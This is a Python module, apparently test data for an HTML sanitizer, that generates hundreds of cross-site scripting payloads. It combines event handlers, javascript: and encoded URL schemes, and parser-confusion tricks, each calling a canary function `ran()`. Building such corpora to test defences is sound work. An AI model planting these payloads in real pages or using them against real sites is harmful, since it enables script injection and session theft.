"""Ways to bring a script into a page, each with a call of `ran()`.

They are put together from the places where browsers run scripts and from the ways to
hide them; none is anybody's published string.
"""

from itertools import product

# Where a browser takes words for a script.
HANDLERS = [
    *["onload", "onerror", "onfocus autofocus tabindex=1", "onmouseover", "onclick"],
    *["ontoggle open", "onbegin", "onbeforetoggle", "onscroll", "onanimationstart"],
    *["onpointerenter", "oncontentvisibilityautostatechange", "onhashchange"],
]
ELEMENTS = [
    *["img src=x", "svg", "body", "input", "video src=x", "audio src=x", "details"],
    *["a href=/ ", "p", "figure", "select", "marquee", "iframe", "object data=x"],
    *["svg><animate", "svg><set", "math", "form", "button popovertarget=x", "dialog"],
]
ADDRESSES = [
    *[
        "javascript:ran()",
        "JaVaScRiPt:ran()",
        " javascript:ran()",
        "\x01javascript:ran()",
    ],
    *["java\tscript:ran()", "java\nscript:ran()", "javascript&colon;ran()"],
    *["&#106;avascript:ran()", "&#x6A&#x61vascript:ran()", "javascript&Tab;:ran()"],
    *["data:text/html,<script>parent.ran()</script>", "vbscript:ran()", "//x/\\@y"],
    *["data:image/svg+xml,<svg onload=ran()>", "\u2028javascript:ran()", "blob:ran()"],
    *["feed:javascript:ran()", "view-source:javascript:ran()", "javascript://%0aran()"],
]
PLACES = [
    *['<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>"],
    *[
        '<form action="{}"><button>x</button></form>',
        '<button formaction="{}">x</button>',
    ],
    *['<iframe src="{}"></iframe>', '<object data="{}"></object>', '<embed src="{}">'],
    *['<svg><a xlink:href="{}"><text>x</text></a></svg>', '<base href="{}">'],
    *['<meta http-equiv="refresh" content="0;url={}">', '<link rel=import href="{}">'],
    *['<math><mi href="{}">x</mi></math>', '<blockquote cite="{}">x</blockquote>'],
    *[
        '<div data-embed="{}"><a href="{}">x</a></div>',
        '<sup data-footnote="{}">1</sup>',
    ],
    *['<svg><use href="{}"></use></svg>', '<img srcset="{} 2x">', '<area href="{}">'],
    '<svg><a><animate attributeName=href values="{}"></animate><text>x</text></a></svg>',
]
# Text that one reader of HTML takes for words and another for elements.
HIDING = [
    *["<script>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>", "<script\x00>{}</script>"],
    *["<style><!--</style><img src=x onerror={}>--></style>", "<title><img src=x onerror={}>"],
    *["<!--><img src=x onerror={}>-->", "<!--!><img src=x onerror={}>", "<!-- --!><b onclick={}>"],
    *["<![CDATA[<img src=x onerror={}>]]>", "<?php <img src=x onerror={}> ?>", "<%<img src=x onerror={}>"],
    *["<noscript><p title='</noscript><img src=x onerror={}>'>", "<xmp><p title='</xmp><img src=x onerror={}>'>"],
    *["<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>"],
    *["<svg></p><style><a id='</style><img src=x onerror={}>'>", "<svg><desc><b onclick={}>x</b></desc></svg>"],
    *["<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>"],
    *["<table><td><svg><foreignObject><p title='</svg><img src=x onerror={}>'>", "<template><img src=x onerror={}></template>"],
    *["<textarea><p title='</textarea><img src=x onerror={}>'>", "<select><option><style></select><img src=x onerror={}>"],
    *["<img src='x' alt='`<img src=x onerror={}>`'>", "<img src=x alt=\"&quot; onerror={}\">", "<p title=\"`\" data-x='` onclick={}'>x</p>"],
    *["<img/src=x/onerror={}>", "<img\x0csrc=x\x0conerror={}>", "<img src=x onerror\n=\n{}>", "<img src=x on\x00error={}>"],
    *["<a id=document href='/' name=body>x</a><img name=getElementById src=x onerror={}>", "<isindex type=image src=x onerror={}>"],
    *["<p style='background:url(javascript:{})'>x</p>", "<div style='width:expression({})'>x</div>"],
    *["+ADw-script+AD4-{}+ADw-/script+AD4-", "\ufeff<script>{}</script>", "＜script＞{}＜/script＞", "&lt;script&gt;{}&lt;/script&gt;"],
    *["<p lang='\"><img src=x onerror={}>'>x</p>", "<time datetime='\"><img src=x onerror={}>'>x</time>"],
    *["<figure data-picture='1\"><img src=x onerror={}>'>x</figure>", "<a title='\"><img src=x onerror={}>' href='/'>x</a>"],
    *["<aside class='pullquote\" onclick={} x=\"'>x</aside>", "{{{{ {} }}}}{{% debug %}}", "${{{}}}", "<%= {} %>", "'-{}-'", '"-{}-"'],
    *["</script><script>{}</script>", "*/{}/*", "</title><script>{}</script>", "]]><script>{}</script>", "--><script>{}</script>"],
]  # fmt: skip
CALLS = ["ran()", "&#114;an()", "window[`ran`]()"]

HOSTILE = [
    *(
        f"<{element} {handler}=ran()>"
        for element, handler in product(ELEMENTS, HANDLERS)
    ),
    *(place.replace("{}", address) for place, address in product(PLACES, ADDRESSES)),
    *(hiding.format(call) for hiding, call in product(HIDING, CALLS)),
]
